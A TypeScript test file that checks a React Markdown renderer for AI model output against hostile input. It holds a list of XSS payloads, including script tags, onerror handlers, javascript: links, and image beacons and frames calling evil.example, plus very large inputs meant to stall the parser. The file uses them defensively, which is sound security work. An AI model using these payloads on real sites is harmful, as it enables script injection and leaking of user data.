import { HeadlessMantineProvider } from '@mantine/core';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';
import { SourceMarks } from './source-marks';

const TEXTS = { table: 'Tabelle', picture: 'Bild:', code: 'Code', copy: 'Kopieren', copied: 'Kopiert' };
const drawn = (text: string): string =>
  renderToStaticMarkup(
    <HeadlessMantineProvider>
      <Markdown text={text} texts={TEXTS} />
    </HeadlessMantineProvider>,
  );
/** All that a browser would ask for, run or follow. */
const elementsOf = (html: string): string[] => [...html.matchAll(/<(\w+)/g)].map(([, name]) => name!.toLowerCase());
const attributesOf = (html: string): string[] =>
  [...html.matchAll(/<\w+([^>]*)>/g)].flatMap(([, all]) => [...all!.matchAll(/\s([\w-]+)=/g)].map(([, one]) => one!));

const HARMLESS = new Set(
  'div p a ul ol li strong em del h3 h4 h5 h6 blockquote code pre figure figcaption span button svg path section table thead tbody tr th td sup br hr'.split(
    ' ',
  ),
);

const HOSTILE: Record<string, string> = {
  script: 'Hallo <script>fetch("https://evil.example")</script>',
  'script over lines': '<script>\nalert(1)\n</script>\n\nText',
  'an image with a handler': '<img src=x onerror=alert(1)>',
  'an image beacon': '![ ](https://evil.example/a.png?q=Anna+M%C3%BCller)',
  'an image beacon by reference': '![x][1]\n\n[1]: https://evil.example/beacon.gif',
  'an image in a link': '[![x](https://evil.example/1.png)](javascript:alert(1))',
  'an image of data': '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  'a javascript link': '[hier](javascript:alert(1)) [da](JaVaScRiPt:alert(1)) [dort](&#106;avascript:alert(1))',
  'a javascript link with spaces': '[x](  java\tscript:alert(1)) [y](<java\nscript:alert(1)>)',
  'a javascript autolink': '<javascript:alert(1)>',
  'data and vbscript links': '[a](data:text/html,<script>1</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:https://x)',
  'a link into this product': '[Papierkorb leeren](/folders/discarded) [x](//evil.example) [y](#main) [z](\\\\evil.example)',
  'a link that looks like another': '[Bank](https://bank.example@evil.example/)',
  'a frame, a form, a style':
    '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input></form><style>@import "https://evil.example"</style>',
  'media and links of the head':
    '<video src="https://evil.example/v"></video><link rel="prefetch" href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  svg: '<svg onload=alert(1)><image href="https://evil.example/1"/></svg>',
  'attributes in a code language': '```"><img src=x onerror=alert(1)>\nx\n```',
  'a formula with a link': '$\\href{javascript:alert(1)}{x}$ und $\\includegraphics{https://evil.example/1.png}$',
  'a table with handlers': '| a |\n| - |\n| <b onmouseover=alert(1)>b</b> |',
  'a footnote': 'Text[^1]\n\n[^1]: <img src=https://evil.example/1>',
  'text that turns around': '[\u202Egnp.elpmaxe](https://evil.example/\u202E)',
};

describe('what a hostile model writes', () => {
  it.each(Object.entries(HOSTILE))('loads nothing and runs nothing: %s', (_name, text) => {
    const html = drawn(text);
    expect(elementsOf(html).filter((name) => !HARMLESS.has(name))).toEqual([]);
    expect(attributesOf(html).filter((name) => /^(on|src|style|srcset|action|formaction|background|poster|ping|id$)/.test(name))).toEqual(
      [],
    );
    for (const [, address] of html.matchAll(/href="([^"]*)"/g)) expect(address).toMatch(/^(https?:\/\/|mailto:)(?!.*@evil)/);
  });

  it('shows a picture as a link that somebody may follow, with its words and its address', () => {
    const html = drawn('![Eine Buche](https://wald.example/buche.jpg)');
    expect(html).toContain('href="https://wald.example/buche.jpg"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('Bild: Eine Buche https://wald.example/buche.jpg');
  });

  it('shows HTML as what it is: words', () => {
    expect(drawn('Ein <b>fettes</b> Wort')).toContain('Ein &lt;b&gt;fettes&lt;/b&gt; Wort');
  });

  it.each([
    ['quotations', '> '.repeat(20_000) + 'x'],
    ['lists', Array.from({ length: 400 }, (_one, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['brackets', '['.repeat(50_000)],
    ['pictures in pictures', '!['.repeat(30_000)],
    ['stars', '*a **b '.repeat(12_000)],
    ['underscores', '_a __b '.repeat(12_000)],
    ['links that never end', '[a]('.repeat(20_000)],
    ['angles', '<a '.repeat(30_000)],
    ['backticks', Array.from({ length: 400 }, (_one, count) => '`'.repeat(count)).join(' x ')],
    ['formulas that never end', '\\[\n'.repeat(30_000)],
    ['dollars', '$ '.repeat(40_000)],
    ['entities', '&#x41;'.repeat(16_000)],
    ['a table', `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n`.concat(`|${'b|'.repeat(500)}\n`.repeat(90))],
    ['one word', 'a'.repeat(100_000)],
    ['addresses', 'www.a.example '.repeat(7000)],
    ['references', '[a]\n\n'.repeat(20_000)],
  ])('is drawn, or shown as written, in no time: 100 kB of %s', { tags: ['proof'] }, (_name, text) => {
    // Of the processor: whatever else the machine does is not counted.
    const began = process.threadCpuUsage();
    expect(drawn(text.slice(0, 100_000)).length).toBeGreaterThan(0);
    const { user, system } = process.threadCpuUsage(began);
    expect((user + system) / 1000).toBeLessThan(4000);
  });
});

describe('what a model writes', () => {
  it('draws headings below those of the page, lists, tables, ticks and code with its language', () => {
    const html = drawn(
      '# Titel\n\n### Tiefer\n\n1. eins\n2. zwei\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] fertig\n\n```python\nprint(1)\n```',
    );
    expect(html).toContain('<h3>Titel</h3>');
    expect(html).toContain('<h4>Tiefer</h4>');
    expect(html).toContain('<td>1</td>');
    expect(html).toContain('☑');
    expect(html).toMatch(/<span>python<\/span>.*<code>print\(1\)<\/code>/s);
  });

  it('takes signs that HTML spells out for what they mean, but not in code', () => {
    expect(drawn('A &amp; B &lt;b&gt; &#8364; &unknown;')).toContain('A &amp; B &lt;b&gt; € &amp;unknown;');
    expect(drawn('`&amp;`')).toContain('<code>&amp;amp;</code>');
  });

  it('draws a block of code whose end has not come yet', () => {
    expect(drawn('Schau:\n\n```js\nconst a = 1;\nconst **b')).toMatch(/<pre[^>]*><code>const a = 1;\nconst \*\*b<\/code>/);
  });

  it.each([
    ['$x^2$', 'x^2'],
    ['\\(x^2\\)', 'x^2'],
    ['\\[\nx^2\n\\]', 'x^2'],
    ['$$\nx^2\n$$', 'x^2'],
  ])('takes %s for a formula', (text, latex) => {
    expect(drawn(text)).toMatch(new RegExp(`<code>${latex.replace('^', '\\^')}\\n?</code>`));
  });

  it('takes prices and code for what they are', () => {
    expect(drawn('Es kostet 5 $ oder 10 $ im Jahr.')).toContain('Es kostet 5 $ oder 10 $ im Jahr.');
    expect(drawn('`\\(x\\)`')).toContain('<code>\\(x\\)</code>');
  });
});

describe('numbers of sources', () => {
  const cited = (text: string): string =>
    renderToStaticMarkup(
      <HeadlessMantineProvider>
        <SourceMarks value={(n) => (n < 3 ? <sup>{n}</sup> : undefined)}>
          <Markdown text={text} texts={TEXTS} />
        </SourceMarks>
      </HeadlessMantineProvider>,
    );

  it('stand where they were written, also in lists and tables; what refers to nothing stays words', () => {
    expect(cited('Es ist kühl. [1]')).toContain('Es ist kühl. <sup>1</sup>');
    expect(cited('- **Schatten** [1][2] &amp; [3]')).toContain('<sup>1</sup><sup>2</sup> &amp; [3]');
    expect(cited('| a |\n|---|\n| b [2] |')).toContain('b <sup>2</sup>');
    expect(cited('`feld[1]` und [1](https://a.example)')).not.toContain('<sup>');
    expect(drawn('Ohne Quellen [1]')).toContain('Ohne Quellen [1]');
  });
});
